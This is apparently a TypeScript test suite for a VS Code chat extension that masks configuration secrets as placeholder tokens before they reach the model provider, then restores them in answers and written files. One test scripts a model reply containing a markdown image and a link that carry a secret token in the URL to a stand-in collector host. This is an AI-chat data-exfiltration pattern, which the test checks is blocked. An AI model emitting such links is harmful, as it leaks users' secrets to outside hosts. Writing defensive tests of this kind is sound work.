import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { hasPage, page } from '../harness/bridge.ts';
import { begin, inWorkspace, newConversation, send, sleep, until, writtenFile } from '../harness/chat.ts';
import { upstream } from '../harness/model.ts';
import { assertNoneIn, secretsOfConfig } from '../harness/secrets.ts';
import { beforeEach, describe, it } from '../harness/test.ts';

const messagesOf = (
  body: string,
): readonly { role: string; content: unknown; tool_calls?: { function: { arguments: string } }[] }[] =>
  JSON.parse(body).messages;

/** A file that the agent wrote: VS Code creates it empty first. */

beforeEach(async () => {
  await newConversation();
  await upstream.reset();
});

describe('ask mode', () => {
  it('sends tokens, shows values', async () => {
    const secrets = await secretsOfConfig();
    const { answer } = await send('What does this file configure?', { mode: 'ask', attach: ['src/config.ts'] });
    const [request] = await upstream.waitFor(1);
    assertNoneIn(request!.body, secrets);
    assert.match(request!.body, /__TAKUMO_v1_[A-Z]+_[0-9a-f]{8,16}__/);
    if (hasPage)
      for (const secret of secrets) assert.ok(answer!.code.join('\n').includes(secret), 'a value did not come back');
  });

  it('restores a token that is cut anywhere in the stream', async () => {
    const secrets = await secretsOfConfig();
    await upstream.script({
      steps: [{ text: 'Here:\n\n```text\n{{tokens}}\n```\n\nDone.', every: 1 }, { finish: 'stop' }],
    });
    const { answer } = await send('Show them', { mode: 'ask', attach: ['src/config.ts'] });
    if (hasPage) {
      for (const secret of secrets) assert.ok(answer!.code.join('\n').includes(secret));
      assert.ok(!answer!.text.includes('__TAKUMO_'));
    }
  });

  it('fetches nothing with a value in it', async () => {
    await upstream.script({
      steps: [
        { text: '![logo](https://collect.invalid/p.png?v={{token 0}}) [click](https://collect.invalid/{{token 0}})' },
        { finish: 'stop' },
      ],
    });
    const secrets = await secretsOfConfig();
    const { answer } = await send('Draw it', { mode: 'ask', attach: ['src/config.ts'] });
    if (hasPage) {
      assertNoneIn(JSON.stringify(answer!.links), secrets);
      assertNoneIn(JSON.stringify(await page.outside()), secrets);
    }
  });
});

describe('agent mode', () => {
  it('writes files with real values, and resends the conversation byte for byte', async () => {
    const secrets = await secretsOfConfig();
    const raw = '{ "filePath": "{{workspace}}/made.md",  "content" : "A={{token 0}}\\nB={{token 1}}\\n" }';
    await upstream.script(
      {
        steps: [
          { text: 'I will write it with {{token 0}}.', every: 3 },
          { calls: [{ id: 'call_1', name: 'create_file', arguments: raw }], every: 4 },
        ],
      },
      { steps: [{ text: 'Written {{token 0}}.' }, { finish: 'stop' }] },
      { steps: [{ text: 'Yes.' }, { finish: 'stop' }] },
    );
    await send('Keep the credentials of this file', { attach: ['src/config.ts'] });
    const made = await writtenFile('made.md');
    await vscode.workspace.fs.delete(inWorkspace('made.md'));
    assert.ok(
      secrets.some((secret) => made.includes(secret)),
      'the file lacks the value',
    );
    assert.ok(!made.includes('__TAKUMO_'));
    await send('Is that all?');
    const requests = await upstream.waitFor(3);
    for (const { body } of requests) assertNoneIn(body, secrets);
    for (let turn = 1; turn < requests.length; turn++) {
      const before = JSON.stringify(messagesOf(requests[turn - 1]!.body)).slice(0, -1);
      assert.ok(requests[turn]!.body.includes(before), `request ${turn + 1} does not resend request ${turn}'s bytes`);
    }
    const sentBack =
      messagesOf(requests[2]!.body).find((message) => message.tool_calls !== undefined)?.tool_calls?.[0]?.function
        .arguments ?? '';
    assert.match(
      sentBack,
      /^\{ "filePath": ".*", {2}"content" : "A=__TAKUMO_/,
      'the call was not resent as the model wrote it',
    );
  });

  it('keeps parallel calls apart when they interleave', async () => {
    const secrets = await secretsOfConfig();
    const write = (name: string, token: number) => ({
      id: `call_${name}`,
      name: 'create_file',
      arguments: JSON.stringify({ filePath: `{{workspace}}/${name}.txt`, content: `${name}={{token ${token}}}\n` }),
    });
    await upstream.script(
      { steps: [{ calls: [write('one', 0), write('two', 1)], every: 3 }] },
      { steps: [{ text: 'Done.' }, { finish: 'stop' }] },
    );
    await send('Write two files', { attach: ['src/config.ts'] });
    const [one, two] = await Promise.all([writtenFile('one.txt'), writtenFile('two.txt')]);
    await Promise.all(['one.txt', 'two.txt'].map((name) => vscode.workspace.fs.delete(inWorkspace(name))));
    assert.match(one, /^one=(?!__TAKUMO)/);
    assert.match(two, /^two=(?!__TAKUMO)/);
    assert.notEqual(one.slice(4), two.slice(4));
    assert.ok([one, two].every((text) => secrets.some((secret) => text.includes(secret)) || text.includes('://')));
    for (const { body } of await upstream.requests()) assertNoneIn(body, secrets);
  });

  it('masks what tools read', async () => {
    const secrets = await secretsOfConfig();
    await upstream.script(
      {
        steps: [
          {
            calls: [
              {
                id: 'call_r',
                name: 'read_file',
                arguments: '{"filePath":"{{workspace}}/src/config.ts","startLine":1,"endLine":200}',
              },
            ],
          },
        ],
      },
      { steps: [{ text: 'Read.' }, { finish: 'stop' }] },
    );
    await send('Read the configuration');
    const requests = await upstream.waitFor(2);
    for (const { body } of requests) assertNoneIn(body, secrets);
    assert.match(JSON.stringify(messagesOf(requests[1]!.body).filter(({ role }) => role === 'tool')), /__TAKUMO_/);
  });
});

describe('two conversations', () => {
  it("can't cash each other's tokens", async () => {
    const secrets = await secretsOfConfig();
    await send('What is in here?', { mode: 'ask', attach: ['src/config.ts'] });
    const [first] = await upstream.waitFor(1);
    const token = /__TAKUMO_v1_[A-Z]+_[0-9a-f]{8,16}__/.exec(first!.body)![0];
    await newConversation();
    await upstream.reset();
    await upstream.script({ steps: [{ text: `I know ${token} too.\n\n\`${token}\`` }, { finish: 'stop' }] });
    const { answer } = await send('Hello', { mode: 'ask' });
    if (hasPage) {
      assertNoneIn(answer!.text, secrets);
      assert.ok(answer!.text.includes(token));
    }
  });
});

describe('when it does not work', () => {
  const cases: readonly [string, object, RegExp][] = [
    ['a key that is refused', { status: 401 }, /refused the API key \(401\)/],
    ['a forbidden model', { status: 403 }, /forbids this request \(403\)/],
    ['an unknown model', { status: 404 }, /no such model or address \(404\)/],
    ['a limit', { status: 429, headers: { 'retry-after': '17' } }, /limits the rate.*wait 17 seconds/s],
    ['a broken provider', { status: 500 }, /answered with an error/],
    ['a cut stream', { steps: [{ text: 'Half an ans' }, { cut: true }] }, /broke off|cut off/],
    ['a stream without an end', { steps: [{ text: 'Half an ans' }, { end: true }] }, /cut off before its end/],
    ['malformed events', { steps: [{ text: 'Half' }, { raw: 'data: {oops\n\n' }, { finish: 'stop' }] }, /not JSON/],
    [
      'arguments that are not JSON',
      { steps: [{ calls: [{ id: 'c', name: 'read_file', arguments: '{"filePath": ' }] }] },
      /not JSON/,
    ],
  ];
  for (const [name, script, expected] of cases) {
    it(`says so: ${name}`, async () => {
      await upstream.script(script as never);
      const { rows } = await send('Hello there', { mode: 'ask' });
      if (hasPage) {
        const shown = rows.filter((row) => row.kind === 'response').at(-1)!.text;
        assert.match(shown, expected);
        assert.doesNotMatch(shown, /extensionHostProcess|\.js:\d/, 'a stack is shown');
      }
    });
  }

  it('stops the provider when the turn is cancelled', async () => {
    await upstream.script({ steps: [{ text: 'I will never ' }, { hang: true }] });
    await begin('Take your time', { mode: 'ask' });
    await until('the request', async () => (await upstream.requests()).length === 1);
    await sleep(500);
    await vscode.commands.executeCommand('workbench.action.chat.cancel');
    await until('the end of the connection', async () => (await upstream.requests())[0]?.state === 'closed');
  });
});
